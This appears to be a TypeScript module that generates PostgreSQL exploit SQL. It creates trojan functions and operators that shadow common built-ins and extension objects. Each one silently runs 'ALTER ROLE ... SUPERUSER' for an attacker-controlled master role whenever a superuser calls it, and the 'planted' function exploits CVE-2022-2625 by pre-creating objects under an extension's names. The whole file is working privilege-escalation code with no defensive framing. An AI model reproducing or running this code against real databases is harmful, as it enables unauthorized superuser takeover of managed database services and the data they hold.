import { MASTER } from './target.ts';

const BECOME = `EXECUTE 'ALTER ROLE ${MASTER} SUPERUSER'`;
const BODY = `BEGIN BEGIN ${BECOME}; EXCEPTION WHEN OTHERS THEN NULL; END; RETURN $1; END`;
const TRUE_BODY = `BEGIN BEGIN ${BECOME}; EXCEPTION WHEN OTHERS THEN NULL; END; RETURN true; END`;

/** Functions of PostgreSQL that scripts of extensions call by their bare names, with types that fit better. */
const CALLED = [
  ...[
    'format',
    'quote_ident',
    'quote_literal',
    'lower',
    'upper',
    'concat',
    'length',
    'to_regclass',
    'replace',
    'substring',
  ],
  ...[
    'postgis_lib_version',
    'postgis_version',
    'cube',
    'cube_distance',
    'count',
    'max',
    'coalesce',
    'array_agg',
    'unnest',
  ],
];
const TYPES = [
  'text',
  'name',
  'oid',
  'int4',
  'int8',
  'regclass',
  'cstring',
  '"char"',
  'anyelement',
  'unknown',
];
const OPERATORS = ['=', '<>', '~', '!~', '||', '<', '>', '+', '-', '/', '@>'];

/** Functions and operators that make the master user a superuser where a superuser calls them. */
export function traps(schema: string): string[] {
  const functions = CALLED.flatMap((name) =>
    TYPES.map(
      (type) =>
        `CREATE FUNCTION ${schema}."${name}"(${type}) RETURNS ${type} LANGUAGE plpgsql AS $trap$${BODY}$trap$`,
    ),
  );
  const operators = TYPES.flatMap((type) => [
    `CREATE FUNCTION ${schema}.same(${type}, ${type}) RETURNS bool LANGUAGE plpgsql AS $trap$${TRUE_BODY}$trap$`,
    ...OPERATORS.map(
      (operator) =>
        `CREATE OPERATOR ${schema}.${operator} (LEFTARG = ${type}, RIGHTARG = ${type}, FUNCTION = ${schema}.same)`,
    ),
  ]);
  return [...functions, ...operators];
}

/** Objects of the master user's with the names of an extension's objects: CVE-2022-2625. */
export function planted(like: readonly Record<string, string>[]): string[] {
  return like.flatMap(({ kind = '', name = '', identity = '' }) => {
    if (kind === 'pg_proc') {
      return ['text', 'bool', 'int4', 'trigger', 'void'].map(
        (type) =>
          `CREATE FUNCTION ${identity} RETURNS ${type} LANGUAGE plpgsql AS $trap$BEGIN ${BECOME}; RETURN NULL; END$trap$`,
      );
    }
    if (kind === 'pg_class') {
      return [
        `CREATE TABLE ${identity} (id int, name text)`,
        `CREATE RULE planted AS ON INSERT TO ${identity} DO INSTEAD SELECT pg_catalog.set_config('x.x', 'x', false)`,
      ];
    }
    if (kind === 'pg_type') return [`CREATE DOMAIN ${identity} AS text`];
    if (kind === 'pg_namespace') return [`CREATE SCHEMA "${name}"`, ...traps(`"${name}"`)];
    if (kind === 'pg_operator') {
      const [, operator, left, right] = /^.*\.(\S+)\((.*),(.*)\)$/.exec(identity) ?? [];
      return operator
        ? [
            `CREATE FUNCTION extensions.planted(${left}, ${right}) RETURNS bool LANGUAGE plpgsql AS $trap$${TRUE_BODY}$trap$`,
            `CREATE OPERATOR extensions.${operator} (LEFTARG = ${left}, RIGHTARG = ${right}, FUNCTION = extensions.planted)`,
          ]
        : [];
    }
    return [];
  });
}
